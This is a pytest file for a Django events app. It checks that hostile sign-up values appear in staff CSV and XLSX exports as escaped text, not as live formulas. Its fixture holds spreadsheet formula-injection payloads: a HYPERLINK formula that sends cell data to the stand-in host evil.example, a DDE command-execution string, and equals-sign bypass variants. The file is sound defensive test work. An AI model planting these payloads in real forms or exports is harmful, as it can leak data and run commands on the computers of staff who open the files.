"""A hostile public sign-up reaches the staff export as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from events.models import EventRegistration

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_DETAILS = {
    "name": FORMULA,
    "organisation": "+cmd|' /C calc'!A0",
    "accessibility_needs": "@SUM(1+1)",
    "dietary_needs": "\uff1d1+1",
}


@pytest.fixture
def hostile_sign_up(make_event):
    """An anonymous visitor signs up through the public form with formulas."""
    event = make_event(title="Language seminar")
    response = Client().post(
        event.url + event.reverse_subpage("register"),
        {**HOSTILE_DETAILS, "email": "mallory@example.org", "consent": "on"},
    )
    assert response.status_code == 302
    assert EventRegistration.objects.get().name == FORMULA
    return event


@pytest.fixture
def staff_client(client, editor):
    editor.user_permissions.add(
        Permission.objects.get(
            content_type__app_label="events", codename="view_eventregistration"
        )
    )
    client.force_login(editor)
    return client


def export(client, event, export_format):
    response = client.get(
        reverse("event_registrations:index"),
        {"event": event.pk, "export": export_format},
    )
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    response.close()
    return body


def test_csv_export_writes_the_formulas_as_text(staff_client, hostile_sign_up):
    text = export(staff_client, hostile_sign_up, "csv").decode()
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["Name"] == "'" + FORMULA
    assert row["Organisation"] == "'" + HOSTILE_DETAILS["organisation"]
    assert row["Accessibility needs"] == "'" + HOSTILE_DETAILS["accessibility_needs"]
    assert row["Dietary needs"] == "'" + HOSTILE_DETAILS["dietary_needs"]
    assert row["E-mail"] == "mallory@example.org"


def test_xlsx_export_writes_the_formulas_as_text(staff_client, hostile_sign_up):
    body = export(staff_client, hostile_sign_up, "xlsx")
    header, row = load_workbook(io.BytesIO(body)).active.iter_rows()
    cells = {head.value: cell for head, cell in zip(header, row, strict=True)}
    for column in ("Name", "Organisation", "Accessibility needs", "Dietary needs"):
        assert cells[column].data_type == "s"
        assert cells[column].value.startswith("'")
    assert cells["Name"].value == "'" + FORMULA
    assert cells["E-mail"].value == "mallory@example.org"
